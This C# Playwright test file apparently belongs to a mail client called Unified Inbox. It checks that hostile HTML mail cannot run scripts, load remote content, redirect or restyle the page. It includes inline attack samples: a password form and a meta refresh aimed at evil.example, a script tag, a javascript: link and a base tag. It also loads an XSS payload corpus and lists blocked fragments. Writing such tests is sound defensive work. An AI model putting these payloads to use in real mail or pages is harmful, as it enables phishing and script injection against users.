using System.Text.Json;
using Microsoft.Playwright;
using UnifiedInbox.Tests;
using static Microsoft.Playwright.Assertions;

namespace UnifiedInbox.Browser.Tests.Conversations;

public sealed class HostileMailTests(Desk desk) : IClassFixture<Desk>
{
    [SkippableFact]
    public async Task Attacks_run_nothing_load_nothing_and_break_no_rule_of_the_page()
    {
        using var corpus = JsonDocument.Parse(await File.ReadAllBytesAsync(SharedFolder.Path("corpus/html-xss/payloads.json")));
        var payloads = corpus.RootElement.GetProperty("payloads").EnumerateArray()
            .Where(one => one.GetProperty("context").GetString() == "html" && one.GetProperty("chromium").GetProperty("label").GetString() == "auto")
            .Select(one => one.GetProperty("payload").GetString()!).ToArray();
        var conversation = Guid.Empty;
        foreach (var some in payloads.Chunk(12))
        {
            var html = string.Concat(some.Select(payload => $"<div>{payload}</div>"));
            (_, conversation) = await new Mail { From = "mallory@example.org", FromName = "Mallory", Subject = "Attack", Html = html + "<p>end</p>", Text = "attack" }.ArriveAsync(desk);
        }
        await using var ada = await desk.AdaAsync(height: 3000);
        var remote = await WatchAsync(ada);
        await ada.OpenAsync($"/inbox/{conversation}");
        await SeeAllAsync(ada);
        Assert.Empty(remote);
        Assert.Equal("Mallory · Unified Inbox", await ada.Page.TitleAsync());
    }

    [Fact]
    public async Task A_mail_cannot_dress_the_page_nor_ask_for_a_password_in_it()
    {
        var (id, conversation) = await new Mail
        {
            From = "eve@example.org", FromName = "Eve", Subject = "Styles", Text = "x",
            Html = """
                <style>* { display: none !important; background: red !important } .mail-card { visibility: hidden }</style>
                <script>top.document.title = 'taken'</script><form action="https://evil.example"><input name="password"></form>
                <meta http-equiv="refresh" content="0;url=https://evil.example"><a href="javascript:alert(1)">click</a><base href="https://evil.example/">
                """,
        }.ArriveAsync(desk);
        await using var ada = await desk.AdaAsync();
        var remote = await WatchAsync(ada);
        await ada.OpenAsync($"/inbox/{conversation}");
        await Expect(ada.Page.Locator(".mail-card")).ToBeVisibleAsync();
        await Expect(ada.ByRole(AriaRole.Button, "Send")).ToBeVisibleAsync();
        await Expect(ada.Page.Locator(".mail-card iframe")).ToHaveAttributeAsync("sandbox", "allow-same-origin allow-popups allow-popups-to-escape-sandbox");
        Assert.Empty(remote);

        var alone = await ada.Page.Context.APIRequest.GetAsync($"/messages/{id}/html");
        Assert.Equal(
            "default-src 'none'; style-src 'unsafe-inline'; img-src 'self' data:; script-src 'none'; form-action 'none'; frame-ancestors 'self'",
            alone.Headers["content-security-policy"]);
        var html = await alone.TextAsync();
        foreach (var word in new[] { "<script", "<form", "<input", "http-equiv=\"refresh", "javascript:", "<base" })
            Assert.DoesNotContain(word, html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task A_mail_as_high_as_its_frame_does_not_grow_for_ever()
    {
        var (_, conversation) = await new Mail
        {
            From = "tall@example.org", FromName = "Tall", Subject = "Tall", Text = "x", Html = """<!DOCTYPE html><div style="min-height: 110vh; height: 110vh">tall</div><p>end</p>""",
        }.ArriveAsync(desk);
        await using var ada = await desk.AdaAsync();
        await ada.OpenAsync($"/inbox/{conversation}");
        await Expect(ada.Page.FrameLocator(".mail-card iframe").GetByText("end")).ToBeAttachedAsync();
        await ada.Page.WaitForFunctionAsync("""
            () => new Promise(done => { let last = 0, same = 0
              const look = () => { const now = document.querySelector(".mail-frame").offsetHeight
                same = now === last ? same + 1 : 0; last = now
                same > 30 ? done(true) : requestAnimationFrame(look) }
              look() })
            """);
        Assert.True(await ada.Page.Locator(".mail-frame").EvaluateAsync<int>("frame => frame.offsetHeight") <= 30_000);
    }

    /// <summary>Whatever goes anywhere else than to the product, or opens a dialog.</summary>
    private async Task<List<string>> WatchAsync(Visitor visitor)
    {
        var seen = new List<string>();
        visitor.Page.Dialog += async (_, dialog) =>
        {
            lock (seen) seen.Add($"dialog: {dialog.Message}");
            await dialog.DismissAsync();
        };
        var own = desk.App.Address.GetLeftPart(UriPartial.Authority);
        await visitor.Page.Context.RouteAsync(url => !url.StartsWith(own, StringComparison.Ordinal) && !url.StartsWith("data:", StringComparison.Ordinal) && !url.StartsWith("blob:", StringComparison.Ordinal), async route =>
        {
            lock (seen) seen.Add(route.Request.Url);
            await route.AbortAsync();
        });
        return seen;
    }

    private static async Task SeeAllAsync(Visitor visitor)
    {
        var frames = visitor.Page.Locator(".mail-card iframe");
        for (var at = await frames.CountAsync() - 1; at >= 0; at--)
        {
            await frames.Nth(at).ScrollIntoViewIfNeededAsync();
            await Expect(frames.Nth(at).ContentFrame.Locator("meta[name=remote-pictures]")).ToBeAttachedAsync();
        }
    }

}
